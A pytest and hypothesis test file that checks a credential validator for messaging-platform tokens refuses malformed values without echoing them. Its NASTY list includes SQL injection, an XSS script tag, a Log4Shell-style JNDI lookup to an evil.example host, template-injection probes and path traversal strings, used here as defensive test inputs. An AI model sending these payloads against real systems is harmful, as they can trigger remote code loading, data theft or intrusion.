"""Credential validation per line type: good samples pass, bad ones are refused with the
field named and the value never echoed (hypothesis generates the bad tokens)."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vault.errors import Unprocessable
from vault.lines.schemas import LINE_TYPES, parse_credential, parse_line_name, parse_line_type

BOT = "123456789:AAH" + "x" * 32
TOKEN = "EAAGm0PX4ZCpsBA" + "Zb" * 20
SECRET = "0123456789abcdef0123456789abcdef"

VALID: dict[str, list[dict[str, object]]] = {
    "telegram": [
        {"bot_token": BOT},
        {"bot_token": "1:" + "_-aZ09" * 5},
        {"bot_token": "12345678901234567890:" + "A" * 200},
    ],
    "instagram": [
        {"access_token": "IGQVJ" + "x" * 150},
        {"access_token": TOKEN, "expires_at": "2027-01-01T00:00:00Z"},
        {
            "access_token": TOKEN,
            "expires_at": "2027-01-01T02:00:00+02:00",
            "user_id": "17841400000000000",
            "app_secret": SECRET,
        },
    ],
    "messenger": [
        {"page_id": "104857600000000", "page_access_token": TOKEN},
        {"page_id": "1", "page_access_token": "123|" + "a" * 30, "app_secret": SECRET},
    ],
    "widget": [{}, {"signing_secret": "s" * 32}, {"signing_secret": "A-b_c.d~e+f/g=" * 10}],
}

# Values that look like attacks, markup, or simply are not tokens.
NASTY = [
    "",
    " ",
    "\x00",
    "ab\ncd-efgh-ijkl",
    "Robert'); DROP TABLE lines;--",
    "' OR '1'='1' -- ",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{{config}}",
    "..\\..\\..\\windows\\system32\\config",
    "ünïcödé-tøken-ünïcödé-tøken-ünïcödé",
    "\u202e" + "x" * 40,
    "\uff11\uff12\uff13\uff14\uff15:" + "\uff21" * 32,  # fullwidth digits/letters
    "token with spaces inside it here",
    "x" * 5000,
    "a" * 70_000,
]

# (type, base credential, field under test)
TARGETS = [
    ("telegram", {}, "bot_token"),
    ("instagram", {}, "access_token"),
    ("instagram", {"access_token": TOKEN}, "user_id"),
    ("instagram", {"access_token": TOKEN}, "app_secret"),
    ("instagram", {"access_token": TOKEN}, "expires_at"),
    ("messenger", {"page_access_token": TOKEN}, "page_id"),
    ("messenger", {"page_id": "1"}, "page_access_token"),
    ("messenger", {"page_id": "1", "page_access_token": TOKEN}, "app_secret"),
    ("widget", {}, "signing_secret"),
]


def refused(line_type: str, credential: object) -> Unprocessable:
    with pytest.raises(Unprocessable) as info:
        parse_credential(line_type, credential)
    return info.value


def assert_not_echoed(err: Unprocessable, value: object) -> None:
    text = f"{err} {err.detail} {err.field} {err!r}"
    if isinstance(value, str) and len(value.strip()) >= 3:
        assert value not in text
        # Nor a recognisable chunk of it.
        for chunk in (value[:12], value[-12:]):
            if len(chunk.strip()) >= 8:
                assert chunk not in text


@pytest.mark.parametrize(
    ("line_type", "credential"),
    [(t, c) for t, cs in VALID.items() for c in cs],
)
def test_valid_credentials_are_accepted(line_type: str, credential: dict[str, object]) -> None:
    parsed = parse_credential(line_type, credential)
    doc = json.loads(parsed.plaintext)
    for key, value in credential.items():
        if key != "expires_at":
            assert doc[key] == value
    assert "<secret>" in repr(parsed)


def test_expires_at_is_normalised_to_utc() -> None:
    parsed = parse_credential(
        "instagram", {"access_token": TOKEN, "expires_at": "2027-01-01T02:00:00+02:00"}
    )
    assert json.loads(parsed.plaintext)["expires_at"] == "2027-01-01T00:00:00Z"
    assert parsed.expires_at is not None and parsed.expires_at.utcoffset() is not None
    assert parsed.expires_at.hour == 0


@pytest.mark.parametrize(
    "when",
    [
        "2027-01-01T00:00:00",
        "1700000000",
        "yesterday",
        "1999-12-31T00:00:00Z",
        "9999-12-31T23:59:59-05:00",
    ],
)
def test_bad_expiry_is_refused(when: str) -> None:
    err = refused("instagram", {"access_token": TOKEN, "expires_at": when})
    assert err.field == "credential.expires_at"


def test_widget_secret_is_generated_when_absent() -> None:
    first = parse_credential("widget", {})
    second = parse_credential("widget", {})
    secret = first.generated["signing_secret"]
    assert len(secret) >= 43  # 32 random bytes, base64url
    assert secret != second.generated["signing_secret"]
    assert json.loads(first.plaintext) == {"signing_secret": secret}
    assert secret not in repr(first)
    assert parse_credential("widget", {"signing_secret": "s" * 32}).generated == {}


@pytest.mark.parametrize(("line_type", "base", "field"), TARGETS)
@pytest.mark.parametrize("value", NASTY)
def test_nasty_values_are_refused_and_not_echoed(
    line_type: str, base: dict[str, object], field: str, value: str
) -> None:
    err = refused(line_type, {**base, field: value})
    assert err.field == f"credential.{field}"
    assert field in err.detail
    assert_not_echoed(err, value)


@pytest.mark.parametrize(("line_type", "base", "field"), TARGETS)
@pytest.mark.parametrize("value", [None, 12345678901234567890, ["a" * 40], {"v": "a" * 40}, True])
def test_wrong_json_types_are_refused(
    line_type: str, base: dict[str, object], field: str, value: object
) -> None:
    if value is None and field in {"user_id", "app_secret", "expires_at", "signing_secret"}:
        parse_credential(line_type, {**base, field: value})  # explicit null = absent
        return
    err = refused(line_type, {**base, field: value})
    assert err.field == f"credential.{field}"


@pytest.mark.parametrize("line_type", LINE_TYPES)
def test_unknown_fields_are_refused(line_type: str) -> None:
    base = dict(VALID[line_type][0])
    err = refused(line_type, {**base, "extra_field": "x"})
    assert err.field == "credential.<unknown>"  # an unknown key is never named back
    assert "extra_field" not in err.detail
    assert "unknown" in err.detail
    # Nor is a key that looks like a pasted token.
    key = "ghp_" + "Q" * 36
    err = refused(line_type, {**base, key: "x"})
    assert key not in err.detail and err.field == "credential.<unknown>"
    # Nor is a key with a trailing newline treated as a safe identifier.
    err = refused(line_type, {**base, "page\n": "x"})
    assert "\n" not in err.detail


@pytest.mark.parametrize(
    ("line_type", "missing"),
    [("telegram", "bot_token"), ("instagram", "access_token"), ("messenger", "page_id")],
)
def test_missing_required_field_is_named(line_type: str, missing: str) -> None:
    base = dict(VALID[line_type][0])
    base.pop(missing)
    err = refused(line_type, base)
    assert f"credential.{missing}" in err.detail


@pytest.mark.parametrize("credential", [None, "123:abc", ["x"], 7])
def test_credential_must_be_an_object(credential: object) -> None:
    assert refused("telegram", credential).field == "credential"


def test_line_type_and_name() -> None:
    for kind in LINE_TYPES:
        assert parse_line_type(kind) == kind
    for bad in ["Telegram", "sms", "", None, 3]:
        with pytest.raises(Unprocessable) as info:
            parse_line_type(bad)
        assert info.value.field == "type"
    assert parse_line_name("  Support bot  ") == "Support bot"
    assert parse_line_name("Ünïcode ✓ line") == "Ünïcode ✓ line"
    for bad in ["", "   ", "x" * 201, "a\nb", "a\x00b", None, 5]:
        with pytest.raises(Unprocessable) as info:
            parse_line_name(bad)
        assert info.value.field == "name"


_BOT_RE = re.compile(r"[0-9]{1,20}:[A-Za-z0-9_-]{30,200}")


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.text(min_size=0, max_size=300))
def test_generated_bad_bot_tokens_are_refused_without_echo(token: str) -> None:
    if _BOT_RE.fullmatch(token):
        parse_credential("telegram", {"bot_token": token})
        return
    err = refused("telegram", {"bot_token": token})
    assert err.field == "credential.bot_token"
    assert_not_echoed(err, token)


@settings(max_examples=200, deadline=None)
@given(
    st.from_regex(r"\A[0-9]{1,20}:[A-Za-z0-9_-]{30,200}\Z"),
    st.sampled_from([" ", "\n", "\t", "é", "'", '"', "<", ";", "\x00", "\u2028"]),
    st.data(),
)
def test_generated_good_tokens_pass_and_one_bad_char_fails(
    token: str, bad: str, data: st.DataObject
) -> None:
    parse_credential("telegram", {"bot_token": token})
    at = data.draw(st.integers(min_value=0, max_value=len(token)))
    tampered = token[:at] + bad + token[at:]
    err = refused("telegram", {"bot_token": tampered})
    assert_not_echoed(err, tampered)
    assert token[-30:] not in err.detail


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(
        [
            ("instagram", "access_token"),
            ("messenger", "page_access_token"),
            ("widget", "signing_secret"),
        ]
    ),
    st.text(alphabet=st.characters(blacklist_categories=["Cs"]), min_size=1, max_size=200).filter(
        lambda s: re.fullmatch(r"[A-Za-z0-9._~+/=|-]+", s) is None
    ),
)
def test_generated_bad_access_tokens_are_refused_without_echo(
    target: tuple[str, str], token: str
) -> None:
    line_type, field = target
    base: dict[str, object] = {"page_id": "1"} if line_type == "messenger" else {}
    err = refused(line_type, {**base, field: token})
    assert err.field == f"credential.{field}"
    assert_not_echoed(err, token)
